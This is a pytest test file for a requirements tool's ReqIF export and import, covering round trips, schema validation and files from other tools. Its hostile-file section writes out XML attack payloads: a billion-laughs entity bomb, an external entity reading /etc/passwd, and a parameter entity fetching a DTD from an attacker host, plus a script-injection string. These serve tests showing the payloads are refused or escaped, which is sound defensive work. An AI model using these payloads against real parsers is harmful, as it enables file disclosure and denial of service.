"""The register as ReqIF 1.2: round trips, the file as other tools read it (the third-party
``reqif`` package and the ReqIF XML schema), stable bytes, hostile files, another tool's file."""

from __future__ import annotations

import shutil
import unicodedata
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from xml.etree.ElementTree import Element, tostring

import pytest
import reqif
from defusedxml.ElementTree import fromstring
from lxml import etree
from reqif.parser import ReqIFParser

from planner.core.errors import ValidationError
from planner.requirements.records import (
    PRIORITY_LABELS,
    STATUS_LABELS,
    TYPE_LABELS,
    Priority,
    ReqStatus,
    ReqType,
    RequirementRecord,
)
from planner.requirements.reqif import REQIF_NS, export_reqif
from planner.requirements.reqif_read import ReqIFImport, import_reqif

CREATED = datetime(2024, 5, 1, 12, 30, tzinfo=UTC)
NS = {"r": REQIF_NS}

CUSTOMERS = "Urmărirea în timp real a interacțiunilor cu clienții"
COMPLAINTS_48H = "客户投诉在48小时内处理"
COMPLAINTS_HE = "ניהול תלונות לקוחות"
SERVICE_DE = "Beschwerdemanagement für Kundendienst"
MARKDOWN = (
    "Die **Kundendaten** & Verträge werden <script>alert('x')</script> angezeigt.\n"
    "\n- Punkt \"eins\"\n- Punkt 'zwei'\r\n\tmit Tab 🚀 and 👩‍💻\n\n`code` > & < ]]>"
)

RECORDS = [
    RequirementRecord(
        key="REQ-001",
        title=CUSTOMERS,
        description=MARKDOWN,
        type=ReqType.FUNCTIONAL.value,
        priority=Priority.MUST.value,
        module="Customer records",
        status=ReqStatus.ACCEPTED.value,
        acceptance_criterion="Ein Anruf erscheint in < 2 s im Verlauf & wird protokolliert.",
        goals=(COMPLAINTS_48H, "Transparent sales pipeline"),
        departments=("Sales", "Vânzări & marketing"),
    ),
    RequirementRecord(
        key="REQ-002",
        title=COMPLAINTS_HE,
        description="תיאור בעברית עם מספרים 123 ו-English.",
        type=ReqType.NON_FUNCTIONAL.value,
        priority=Priority.WONT.value,
        module="Service and complaints",
        status=ReqStatus.DEFERRED.value,
        acceptance_criterion="",
        goals=(COMPLAINTS_48H,),
        departments=("Sales",),
    ),
    RequirementRecord(
        key="REQ-010",
        title=SERVICE_DE,
        description="",
        type=ReqType.SECURITY.value,
        priority=Priority.COULD.value,
        module="",
        status=ReqStatus.PROPOSED.value,
        goals=(),
        departments=("Kundendienst", "Vânzări & marketing"),
    ),
]


def export(
    records: list[RequirementRecord] = RECORDS,
    *,
    title: str = "CRM rollout — registru",
    identifier: str = "planner-project-7",
    created: datetime = CREATED,
) -> bytes:
    return export_reqif(records, title=title, identifier=identifier, created=created)


@pytest.fixture(scope="module")
def reqif_schema(tmp_path_factory: pytest.TempPathFactory) -> etree.XMLSchema:
    """The ReqIF 1.2 schema shipped with the ``reqif`` package. Its XHTML modules import the
    xml: namespace with an empty location, which libxml2 refuses: a copy points them at a local
    xml.xsd instead."""
    root = tmp_path_factory.mktemp("reqif-schema")
    shutil.copytree(Path(reqif.__file__).parent / "reqif_schema", root, dirs_exist_ok=True)
    xml_xsd = root / "xml.xsd"
    xml_xsd.write_text(
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"'
        ' targetNamespace="http://www.w3.org/XML/1998/namespace">'
        '<xs:attribute name="lang" type="xs:language"/>'
        '<xs:attribute name="space" type="xs:NCName"/>'
        '<xs:attribute name="base" type="xs:anyURI"/>'
        '<xs:attribute name="id" type="xs:ID"/></xs:schema>',
        encoding="utf-8",
    )
    for xsd in root.rglob("*.xsd"):
        text = xsd.read_text(encoding="utf-8")
        xsd.write_text(
            text.replace('schemaLocation=""', f'schemaLocation="{xml_xsd.as_uri()}"'),
            encoding="utf-8",
        )
    return etree.XMLSchema(etree.parse(str(root / "reqif.xsd")))


def assert_valid(schema: etree.XMLSchema, data: bytes) -> None:
    document = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
    assert schema.validate(document), schema.error_log


# Round trip -------------------------------------------------------------------------------


def test_export_then_import_gives_back_the_same_records_in_order() -> None:
    data = export()

    result = import_reqif(data)

    assert isinstance(result, ReqIFImport)
    assert result.records == RECORDS
    assert result.title == "CRM rollout — registru"


def test_user_text_is_escaped_by_the_xml_writer_not_pasted_in() -> None:
    text = export().decode("utf-8")

    assert "<script>" not in text
    assert "&lt;script&gt;alert('x')&lt;/script&gt;" in text
    assert "&amp; Verträge" in text
    assert "&#10;" in text and "&#13;" in text and "&#09;" in text  # kept inside attributes
    assert CUSTOMERS in text and COMPLAINTS_48H in text  # UTF-8, not character references


def test_goals_and_departments_shared_by_requirements_are_one_object_each() -> None:
    root = fromstring(export())

    names = [
        v.get("THE-VALUE")
        for so in root.iterfind(".//r:SPEC-OBJECT", NS)
        if so.findtext("r:TYPE/r:SPEC-OBJECT-TYPE-REF", namespaces=NS) != "sot-requirement"
        for v in so.iterfind("r:VALUES/r:ATTRIBUTE-VALUE-STRING", NS)
    ]
    assert sorted(names) == sorted(
        [
            COMPLAINTS_48H,
            "Transparent sales pipeline",
            "Sales",
            "Vânzări & marketing",
            "Kundendienst",
        ]
    )
    assert len(root.findall(".//r:SPEC-RELATION", NS)) == 2 + 2 + 1 + 1 + 2


def test_an_empty_register_round_trips(reqif_schema: etree.XMLSchema) -> None:
    data = export([], title="Empty")

    assert_valid(reqif_schema, data)
    assert import_reqif(data) == ReqIFImport(records=[], title="Empty")


def test_text_is_nfc_normalised_on_the_way_out() -> None:
    decomposed = unicodedata.normalize("NFD", CUSTOMERS)
    assert decomposed != CUSTOMERS
    record = RequirementRecord(key="REQ-001", title=decomposed, goals=(decomposed,))

    back = import_reqif(export([record])).records[0]

    assert back.title == CUSTOMERS
    assert back.goals == (CUSTOMERS,)


def test_characters_xml_cannot_carry_become_replacement_characters(
    reqif_schema: etree.XMLSchema,
) -> None:
    record = RequirementRecord(key="REQ-001", title="Bell\x07 and NUL\x00 and \ud800 surrogate")

    data = export([record])

    assert_valid(reqif_schema, data)
    assert import_reqif(data).records[0].title == "Bell\ufffd and NUL\ufffd and \ufffd surrogate"


def test_unknown_enumeration_values_and_odd_keys_survive_the_trip(
    reqif_schema: etree.XMLSchema,
) -> None:
    records = [
        RequirementRecord(key="", title="New one", priority="High", type="UX", status=""),
        RequirementRecord(key="", title="Another new one", priority="High"),
        RequirementRecord(key="REQ 7 / draft", title="Odd key"),
        RequirementRecord(key="REQ-001", title="Duplicate key"),
        RequirementRecord(key="REQ-001", title="Duplicate key again"),
    ]

    data = export(records, identifier="7 projects: CRM")

    assert_valid(reqif_schema, data)  # identifiers stay unique and well-formed XML IDs
    back = import_reqif(data).records
    assert [r.key for r in back] == ["", "", "REQ 7 / draft", "REQ-001", "REQ-001"]
    assert (back[0].priority, back[0].type) == ("High", "UX")
    assert back[0].status == ReqStatus.PROPOSED.value  # no value: the record's default
    assert back[1].priority == "High"


# Read by other tools --------------------------------------------------------------------------


def test_the_export_is_valid_against_the_reqif_schema(reqif_schema: etree.XMLSchema) -> None:
    assert_valid(reqif_schema, export())


def test_the_reqif_package_reads_our_file() -> None:
    bundle = ReqIFParser.parse_from_string(export().decode("utf-8"))

    assert bundle.exceptions == []
    assert bundle.req_if_header is not None
    assert bundle.req_if_header.title == "CRM rollout — registru"
    content = bundle.core_content.req_if_content
    assert len(content.spec_objects) == 3 + 2 + 3  # requirements, goals, departments
    assert len(content.spec_relations) == 8
    (specification,) = content.specifications
    assert specification.long_name == "Requirements register"
    hierarchy = list(bundle.iterate_specification_hierarchy(specification))
    requirements = [bundle.get_spec_object_by_ref(h.spec_object) for h in hierarchy]

    def value_of(spec_object: object, long_name: str) -> object:
        spec_type = bundle.lookup.get_spec_type_by_ref(spec_object.spec_object_type)
        definitions = {d.identifier: d.long_name for d in spec_type.attribute_definitions}
        for attribute in spec_object.attributes:
            if definitions[attribute.definition_ref] == long_name:
                return attribute.value
        return None

    assert [value_of(r, "ReqIF.ForeignID") for r in requirements] == [
        "REQ-001",
        "REQ-002",
        "REQ-010",
    ]
    assert [value_of(r, "ReqIF.Name") for r in requirements] == [
        CUSTOMERS,
        COMPLAINTS_HE,
        SERVICE_DE,
    ]
    assert value_of(requirements[0], "ReqIF.Text") == MARKDOWN
    (priority_ref,) = value_of(requirements[0], "Priority")
    priorities = bundle.lookup.get_data_type_by_ref("dt-priority")
    assert {v.identifier: v.long_name for v in priorities.values}[priority_ref] == "must"
    goal_targets = [
        bundle.get_spec_object_by_ref(rel.target)
        for rel in content.spec_relations
        if rel.source == requirements[0].identifier and rel.relation_type_ref == "srt-goal"
    ]
    assert [value_of(g, "ReqIF.Name") for g in goal_targets] == [
        COMPLAINTS_48H,
        "Transparent sales pipeline",
    ]


# Stable bytes ----------------------------------------------------------------------------


def test_the_same_register_and_time_give_the_same_bytes() -> None:
    assert export() == export()
    assert export() != export(created=datetime(2024, 5, 2, tzinfo=UTC))


def test_identifiers_derive_from_keys_and_texts_not_from_positions() -> None:
    alone = fromstring(export(RECORDS[1:2]))
    together = fromstring(export(RECORDS))

    def identifiers(root: Element) -> set[str]:
        return {so.get("IDENTIFIER", "") for so in root.iterfind(".//r:SPEC-OBJECT", NS)}

    assert "req-REQ-002" in identifiers(alone)
    assert identifiers(alone) <= identifiers(together)


# Hostile files ------------------------------------------------------------------------------

BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<REQ-IF xmlns="http://www.omg.org/spec/ReqIF/20110401/reqif.xsd"><THE-HEADER>&lol9;</THE-HEADER>
</REQ-IF>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE REQ-IF [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<REQ-IF xmlns="http://www.omg.org/spec/ReqIF/20110401/reqif.xsd"><THE-HEADER>&x;</THE-HEADER>
</REQ-IF>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE REQ-IF [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<REQ-IF xmlns="http://www.omg.org/spec/ReqIF/20110401/reqif.xsd"/>"""
DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE REQ-IF SYSTEM "reqif.dtd">
<REQ-IF xmlns="http://www.omg.org/spec/ReqIF/20110401/reqif.xsd"/>"""


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (BOMB, ["DTD or entities", "not accepted"]),
        (EXTERNAL_ENTITY, ["DTD or entities", "not accepted"]),
        (PARAMETER_ENTITY, ["DTD or entities", "not accepted"]),
        (DOCTYPE, ["DTD or entities", "not accepted"]),
        (b"key;title\nREQ-001;Kunden\n", ["not a ReqIF document"]),
        (b"\x89PNG\r\n\x1a\n\x00\x00", ["not a ReqIF document"]),
        (b"", ["empty", "not a ReqIF document"]),
        (b"<REQ-IF xmlns='http://www.omg.org/spec/ReqIF/20110401/reqif.xsd'>", ["not a ReqIF"]),
        (b"<?xml version='1.0' encoding='klingon'?><REQ-IF/>", ["not a ReqIF document"]),
        (
            b"<REQ-IF xmlns='http://www.omg.org/spec/ReqIF/20110401/reqif.xsd'>\xff</REQ-IF>",
            ["not a ReqIF document"],
        ),  # fmt: skip
        (b"<html><body>Hello</body></html>", ["not a ReqIF document", "<html>"]),
        (b"<REQ-IF><THE-HEADER/></REQ-IF>", ["not a ReqIF document", "namespace"]),
        (b"PK\x03\x04rest of a zip", ["ZIP archive", "unpack"]),
    ],
    ids=[
        "billion-laughs",
        "external-entity",
        "parameter-entity",
        "doctype",
        "csv",
        "binary",
        "empty",
        "truncated",
        "unknown-encoding",
        "invalid-utf8",
        "html",
        "no-namespace",
        "reqifz",
    ],
)
def test_hostile_or_wrong_files_are_refused_with_a_clear_message(
    data: bytes, words: list[str]
) -> None:
    with pytest.raises(ValidationError) as caught:
        import_reqif(data)

    for word in words:
        assert word in caught.value.detail
    assert caught.value.status == 422


def test_a_file_larger_than_the_limit_is_refused_before_parsing() -> None:
    data = export()

    with pytest.raises(ValidationError, match="too large"):
        import_reqif(data, max_bytes=len(data) - 1)
    assert import_reqif(data, max_bytes=len(data)).records == RECORDS


def test_more_requirements_than_the_limit_are_refused() -> None:
    data = export()

    with pytest.raises(ValidationError, match=r"holds 3 requirements; at most 2"):
        import_reqif(data, max_records=2)
    assert len(import_reqif(data, max_records=3).records) == 3


def test_a_damaged_file_is_read_or_refused_never_crashes() -> None:
    """One element of each kind in a small export taken out in turn, then its attributes and
    text: what is left is read as far as it goes, or refused with a ValidationError."""
    record = RequirementRecord(
        key="REQ-001", title="T", description="D", goals=("G",), departments=("S",)
    )
    data = export([record])
    first_of_each_tag: dict[str, int] = {}
    for index, element in enumerate(fromstring(data).iter()):
        first_of_each_tag.setdefault(element.tag, index)
    for index in list(first_of_each_tag.values())[1:]:
        for damage in ("remove", "strip"):
            root = fromstring(data)
            parents = {child: parent for parent in root.iter() for child in parent}
            element = list(root.iter())[index]
            if damage == "remove":
                parents[element].remove(element)
            else:
                element.attrib.clear()
                element.text = None
            try:
                result = import_reqif(tostring(root))
            except ValidationError:
                continue
            assert all(isinstance(r, RequirementRecord) for r in result.records)


def test_deeply_nested_xhtml_and_hierarchies_do_not_exhaust_the_stack() -> None:
    depth = 5_000
    data = foreign_file(
        description="<xhtml:div>" * depth + "deep text" + "</xhtml:div>" * depth,
        hierarchy=(
            "<SPEC-HIERARCHY IDENTIFIER='h'><OBJECT><SPEC-OBJECT-REF>heading</SPEC-OBJECT-REF>"
            "</OBJECT><CHILDREN>"
            * depth
            + "<SPEC-HIERARCHY IDENTIFIER='x'><OBJECT><SPEC-OBJECT-REF>r1</SPEC-OBJECT-REF>"
            "</OBJECT></SPEC-HIERARCHY>" + "</CHILDREN></SPEC-HIERARCHY>" * depth
        ),
    )

    records = import_reqif(data).records

    assert records[0].description == "deep text"


# Files of other tools -------------------------------------------------------------------------

FOREIGN_DESCRIPTION = """<xhtml:div>
  <xhtml:p>The agent sees the <xhtml:b>complete</xhtml:b>
     history of the customer &amp; their complaints.</xhtml:p>
  <xhtml:ul><xhtml:li>calls</xhtml:li>
   <xhtml:li>e-mails, <xhtml:i>chats</xhtml:i></xhtml:li></xhtml:ul>
  <xhtml:p>Line one<xhtml:br/>line two – Română: ăâîșț</xhtml:p>
</xhtml:div>"""
FOREIGN_HIERARCHY = """
<SPEC-HIERARCHY IDENTIFIER="h-1" LAST-CHANGE="2023-01-01T00:00:00Z">
  <OBJECT><SPEC-OBJECT-REF>heading</SPEC-OBJECT-REF></OBJECT>
  <CHILDREN>
    <SPEC-HIERARCHY IDENTIFIER="h-2" LAST-CHANGE="2023-01-01T00:00:00Z">
      <OBJECT><SPEC-OBJECT-REF>r2</SPEC-OBJECT-REF></OBJECT>
    </SPEC-HIERARCHY>
    <SPEC-HIERARCHY IDENTIFIER="h-3" LAST-CHANGE="2023-01-01T00:00:00Z">
      <OBJECT><SPEC-OBJECT-REF>r1</SPEC-OBJECT-REF></OBJECT>
    </SPEC-HIERARCHY>
  </CHILDREN>
</SPEC-HIERARCHY>"""


def foreign_file(
    description: str = FOREIGN_DESCRIPTION,
    hierarchy: str = FOREIGN_HIERARCHY,
    priority_of_r2: str = "High",
) -> bytes:
    """A ReqIF file in the manner of DOORS or Polarion: its own identifiers, XHTML text, a
    heading object, enumeration labels, relations named otherwise, one object without a key."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<REQ-IF xmlns="http://www.omg.org/spec/ReqIF/20110401/reqif.xsd"
        xmlns:xhtml="http://www.w3.org/1999/xhtml">
 <THE-HEADER><REQ-IF-HEADER IDENTIFIER="_hdr">
  <CREATION-TIME>2023-01-01T00:00:00Z</CREATION-TIME><REQ-IF-TOOL-ID>DOORS</REQ-IF-TOOL-ID>
  <REQ-IF-VERSION>1.0</REQ-IF-VERSION><SOURCE-TOOL-ID>DOORS</SOURCE-TOOL-ID>
  <TITLE>  CRM requirements from DOORS </TITLE></REQ-IF-HEADER></THE-HEADER>
 <CORE-CONTENT><REQ-IF-CONTENT>
  <DATATYPES>
   <DATATYPE-DEFINITION-STRING IDENTIFIER="_dts" LONG-NAME="String" MAX-LENGTH="32000"/>
   <DATATYPE-DEFINITION-XHTML IDENTIFIER="_dtx" LONG-NAME="Formatted"/>
   <DATATYPE-DEFINITION-ENUMERATION IDENTIFIER="_dtprio" LONG-NAME="MoSCoW">
    <SPECIFIED-VALUES>
     <ENUM-VALUE IDENTIFIER="_p1" LONG-NAME="Must have"><PROPERTIES>
      <EMBEDDED-VALUE KEY="1" OTHER-CONTENT=""/></PROPERTIES></ENUM-VALUE>
     <ENUM-VALUE IDENTIFIER="_p2" LONG-NAME="{priority_of_r2}"><PROPERTIES>
      <EMBEDDED-VALUE KEY="2" OTHER-CONTENT=""/></PROPERTIES></ENUM-VALUE>
    </SPECIFIED-VALUES>
   </DATATYPE-DEFINITION-ENUMERATION>
   <DATATYPE-DEFINITION-ENUMERATION IDENTIFIER="_dtstatus" LONG-NAME="State">
    <SPECIFIED-VALUES>
     <ENUM-VALUE IDENTIFIER="_s1"><PROPERTIES>
      <EMBEDDED-VALUE KEY="7" OTHER-CONTENT="ACCEPTED"/></PROPERTIES></ENUM-VALUE>
    </SPECIFIED-VALUES>
   </DATATYPE-DEFINITION-ENUMERATION>
  </DATATYPES>
  <SPEC-TYPES>
   <SPEC-OBJECT-TYPE IDENTIFIER="_heading" LONG-NAME="Heading">
    <SPEC-ATTRIBUTES>
     <ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_hname" LONG-NAME="ReqIF.ChapterName">
      <TYPE><DATATYPE-DEFINITION-STRING-REF>_dts</DATATYPE-DEFINITION-STRING-REF></TYPE>
     </ATTRIBUTE-DEFINITION-STRING>
    </SPEC-ATTRIBUTES>
   </SPEC-OBJECT-TYPE>
   <SPEC-OBJECT-TYPE IDENTIFIER="_req" LONG-NAME="System Requirement">
    <SPEC-ATTRIBUTES>
     <ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_id" LONG-NAME="ID">
      <TYPE><DATATYPE-DEFINITION-STRING-REF>_dts</DATATYPE-DEFINITION-STRING-REF></TYPE>
     </ATTRIBUTE-DEFINITION-STRING>
     <ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_chapter" LONG-NAME="ReqIF.ChapterName">
      <TYPE><DATATYPE-DEFINITION-STRING-REF>_dts</DATATYPE-DEFINITION-STRING-REF></TYPE>
     </ATTRIBUTE-DEFINITION-STRING>
     <ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_name" LONG-NAME="reqif.name">
      <TYPE><DATATYPE-DEFINITION-STRING-REF>_dts</DATATYPE-DEFINITION-STRING-REF></TYPE>
     </ATTRIBUTE-DEFINITION-STRING>
     <ATTRIBUTE-DEFINITION-XHTML IDENTIFIER="_text" LONG-NAME="ReqIF.Text">
      <TYPE><DATATYPE-DEFINITION-XHTML-REF>_dtx</DATATYPE-DEFINITION-XHTML-REF></TYPE>
     </ATTRIBUTE-DEFINITION-XHTML>
     <ATTRIBUTE-DEFINITION-ENUMERATION IDENTIFIER="_prio" LONG-NAME="PRIORITY"
       MULTI-VALUED="false">
      <TYPE><DATATYPE-DEFINITION-ENUMERATION-REF>_dtprio</DATATYPE-DEFINITION-ENUMERATION-REF>
      </TYPE>
     </ATTRIBUTE-DEFINITION-ENUMERATION>
     <ATTRIBUTE-DEFINITION-ENUMERATION IDENTIFIER="_status" LONG-NAME="Status"
       MULTI-VALUED="false">
      <DEFAULT-VALUE><ATTRIBUTE-VALUE-ENUMERATION>
       <DEFINITION><ATTRIBUTE-DEFINITION-ENUMERATION-REF>_status</ATTRIBUTE-DEFINITION-ENUMERATION-REF>
       </DEFINITION>
       <VALUES><ENUM-VALUE-REF>_s1</ENUM-VALUE-REF></VALUES>
      </ATTRIBUTE-VALUE-ENUMERATION></DEFAULT-VALUE>
      <TYPE><DATATYPE-DEFINITION-ENUMERATION-REF>_dtstatus</DATATYPE-DEFINITION-ENUMERATION-REF>
      </TYPE>
     </ATTRIBUTE-DEFINITION-ENUMERATION>
     <ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_ac" LONG-NAME="Acceptance_Criteria">
      <TYPE><DATATYPE-DEFINITION-STRING-REF>_dts</DATATYPE-DEFINITION-STRING-REF></TYPE>
     </ATTRIBUTE-DEFINITION-STRING>
     <ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_vendor" LONG-NAME="Vendor comment">
      <TYPE><DATATYPE-DEFINITION-STRING-REF>_dts</DATATYPE-DEFINITION-STRING-REF></TYPE>
     </ATTRIBUTE-DEFINITION-STRING>
    </SPEC-ATTRIBUTES>
   </SPEC-OBJECT-TYPE>
   <SPEC-OBJECT-TYPE IDENTIFIER="_obj" LONG-NAME="Business Goal">
    <SPEC-ATTRIBUTES>
     <ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_objid" LONG-NAME="ReqIF.ForeignID">
      <TYPE><DATATYPE-DEFINITION-STRING-REF>_dts</DATATYPE-DEFINITION-STRING-REF></TYPE>
     </ATTRIBUTE-DEFINITION-STRING>
     <ATTRIBUTE-DEFINITION-STRING IDENTIFIER="_objname" LONG-NAME="Title">
      <TYPE><DATATYPE-DEFINITION-STRING-REF>_dts</DATATYPE-DEFINITION-STRING-REF></TYPE>
     </ATTRIBUTE-DEFINITION-STRING>
    </SPEC-ATTRIBUTES>
   </SPEC-OBJECT-TYPE>
   <SPEC-OBJECT-TYPE IDENTIFIER="_dep" LONG-NAME="Department"/>
   <SPEC-RELATION-TYPE IDENTIFIER="_satisfies" LONG-NAME="Satisfies"/>
   <SPEC-RELATION-TYPE IDENTIFIER="_requested" LONG-NAME="Requested by"/>
   <SPECIFICATION-TYPE IDENTIFIER="_spect" LONG-NAME="Module"/>
  </SPEC-TYPES>
  <SPEC-OBJECTS>
   <SPEC-OBJECT IDENTIFIER="heading">
    <TYPE><SPEC-OBJECT-TYPE-REF>_heading</SPEC-OBJECT-TYPE-REF></TYPE>
    <VALUES><ATTRIBUTE-VALUE-STRING THE-VALUE="1 Customer service">
     <DEFINITION><ATTRIBUTE-DEFINITION-STRING-REF>_hname</ATTRIBUTE-DEFINITION-STRING-REF>
     </DEFINITION></ATTRIBUTE-VALUE-STRING></VALUES>
   </SPEC-OBJECT>
   <SPEC-OBJECT IDENTIFIER="r1" LONG-NAME="ignored">
    <TYPE><SPEC-OBJECT-TYPE-REF>_req</SPEC-OBJECT-TYPE-REF></TYPE>
    <VALUES>
     <ATTRIBUTE-VALUE-STRING THE-VALUE="REQ-012">
      <DEFINITION><ATTRIBUTE-DEFINITION-STRING-REF>_id</ATTRIBUTE-DEFINITION-STRING-REF>
      </DEFINITION></ATTRIBUTE-VALUE-STRING>
     <ATTRIBUTE-VALUE-STRING THE-VALUE="Chapter name loses to ReqIF.Name">
      <DEFINITION><ATTRIBUTE-DEFINITION-STRING-REF>_chapter</ATTRIBUTE-DEFINITION-STRING-REF>
      </DEFINITION></ATTRIBUTE-VALUE-STRING>
     <ATTRIBUTE-VALUE-STRING THE-VALUE="{CUSTOMERS}">
      <DEFINITION><ATTRIBUTE-DEFINITION-STRING-REF>_name</ATTRIBUTE-DEFINITION-STRING-REF>
      </DEFINITION></ATTRIBUTE-VALUE-STRING>
     <ATTRIBUTE-VALUE-XHTML>
      <DEFINITION><ATTRIBUTE-DEFINITION-XHTML-REF>_text</ATTRIBUTE-DEFINITION-XHTML-REF>
      </DEFINITION>
      <THE-VALUE>{description}</THE-VALUE>
     </ATTRIBUTE-VALUE-XHTML>
     <ATTRIBUTE-VALUE-ENUMERATION>
      <DEFINITION><ATTRIBUTE-DEFINITION-ENUMERATION-REF>_prio</ATTRIBUTE-DEFINITION-ENUMERATION-REF>
      </DEFINITION>
      <VALUES><ENUM-VALUE-REF>_p1</ENUM-VALUE-REF></VALUES>
     </ATTRIBUTE-VALUE-ENUMERATION>
     <ATTRIBUTE-VALUE-STRING THE-VALUE="Shown within 2 s">
      <DEFINITION><ATTRIBUTE-DEFINITION-STRING-REF>_ac</ATTRIBUTE-DEFINITION-STRING-REF>
      </DEFINITION></ATTRIBUTE-VALUE-STRING>
     <ATTRIBUTE-VALUE-STRING THE-VALUE="not ours">
      <DEFINITION><ATTRIBUTE-DEFINITION-STRING-REF>_vendor</ATTRIBUTE-DEFINITION-STRING-REF>
      </DEFINITION></ATTRIBUTE-VALUE-STRING>
    </VALUES>
   </SPEC-OBJECT>
   <SPEC-OBJECT IDENTIFIER="r2">
    <TYPE><SPEC-OBJECT-TYPE-REF>_req</SPEC-OBJECT-TYPE-REF></TYPE>
    <VALUES>
     <ATTRIBUTE-VALUE-STRING THE-VALUE="{SERVICE_DE}">
      <DEFINITION><ATTRIBUTE-DEFINITION-STRING-REF>_chapter</ATTRIBUTE-DEFINITION-STRING-REF>
      </DEFINITION></ATTRIBUTE-VALUE-STRING>
     <ATTRIBUTE-VALUE-ENUMERATION>
      <DEFINITION><ATTRIBUTE-DEFINITION-ENUMERATION-REF>_prio</ATTRIBUTE-DEFINITION-ENUMERATION-REF>
      </DEFINITION>
      <VALUES><ENUM-VALUE-REF>_p2</ENUM-VALUE-REF></VALUES>
     </ATTRIBUTE-VALUE-ENUMERATION>
    </VALUES>
   </SPEC-OBJECT>
   <SPEC-OBJECT IDENTIFIER="g1" LONG-NAME="Fallback goal name">
    <TYPE><SPEC-OBJECT-TYPE-REF>_obj</SPEC-OBJECT-TYPE-REF></TYPE>
    <VALUES><ATTRIBUTE-VALUE-STRING THE-VALUE="{COMPLAINTS_48H}">
     <DEFINITION><ATTRIBUTE-DEFINITION-STRING-REF>_objname</ATTRIBUTE-DEFINITION-STRING-REF>
     </DEFINITION></ATTRIBUTE-VALUE-STRING></VALUES>
   </SPEC-OBJECT>
   <SPEC-OBJECT IDENTIFIER="d1" LONG-NAME="{COMPLAINTS_HE}">
    <TYPE><SPEC-OBJECT-TYPE-REF>_dep</SPEC-OBJECT-TYPE-REF></TYPE>
   </SPEC-OBJECT>
  </SPEC-OBJECTS>
  <SPEC-RELATIONS>
   <SPEC-RELATION IDENTIFIER="rel1">
    <TYPE><SPEC-RELATION-TYPE-REF>_satisfies</SPEC-RELATION-TYPE-REF></TYPE>
    <SOURCE><SPEC-OBJECT-REF>r1</SPEC-OBJECT-REF></SOURCE>
    <TARGET><SPEC-OBJECT-REF>g1</SPEC-OBJECT-REF></TARGET></SPEC-RELATION>
   <SPEC-RELATION IDENTIFIER="rel2">
    <TYPE><SPEC-RELATION-TYPE-REF>_requested</SPEC-RELATION-TYPE-REF></TYPE>
    <SOURCE><SPEC-OBJECT-REF>r1</SPEC-OBJECT-REF></SOURCE>
    <TARGET><SPEC-OBJECT-REF>d1</SPEC-OBJECT-REF></TARGET></SPEC-RELATION>
   <SPEC-RELATION IDENTIFIER="rel3">
    <TYPE><SPEC-RELATION-TYPE-REF>_satisfies</SPEC-RELATION-TYPE-REF></TYPE>
    <SOURCE><SPEC-OBJECT-REF>g1</SPEC-OBJECT-REF></SOURCE>
    <TARGET><SPEC-OBJECT-REF>r2</SPEC-OBJECT-REF></TARGET></SPEC-RELATION>
   <SPEC-RELATION IDENTIFIER="rel4">
    <TYPE><SPEC-RELATION-TYPE-REF>_satisfies</SPEC-RELATION-TYPE-REF></TYPE>
    <SOURCE><SPEC-OBJECT-REF>r1</SPEC-OBJECT-REF></SOURCE>
    <TARGET><SPEC-OBJECT-REF>missing</SPEC-OBJECT-REF></TARGET></SPEC-RELATION>
  </SPEC-RELATIONS>
  <SPECIFICATIONS>
   <SPECIFICATION IDENTIFIER="s1" LONG-NAME="CRM">
    <TYPE><SPECIFICATION-TYPE-REF>_spect</SPECIFICATION-TYPE-REF></TYPE>
    <CHILDREN>{hierarchy}</CHILDREN>
   </SPECIFICATION>
  </SPECIFICATIONS>
 </REQ-IF-CONTENT></CORE-CONTENT>
</REQ-IF>""".encode()


def test_another_tools_file_is_imported_sensibly() -> None:
    result = import_reqif(foreign_file())

    assert result.title == "CRM requirements from DOORS"
    second, first = result.records  # in the specification's order, the heading left out
    assert first == RequirementRecord(
        key="REQ-012",
        title=CUSTOMERS,
        description=(
            "The agent sees the complete history of the customer & their complaints.\n"
            "\n"
            "- calls\n"
            "- e-mails, chats\n"
            "\n"
            "Line one\n"
            "line two – Română: ăâîșț"
        ),
        priority=Priority.MUST.value,  # "Must have"
        status=ReqStatus.ACCEPTED.value,  # the default value, by its OTHER-CONTENT
        acceptance_criterion="Shown within 2 s",
        goals=(COMPLAINTS_48H,),  # by the relation type's name ("Satisfies" is not) and target
        departments=(COMPLAINTS_HE,),  # by the relation "Requested by", named by LONG-NAME
    )
    assert second.key == ""  # the caller assigns one
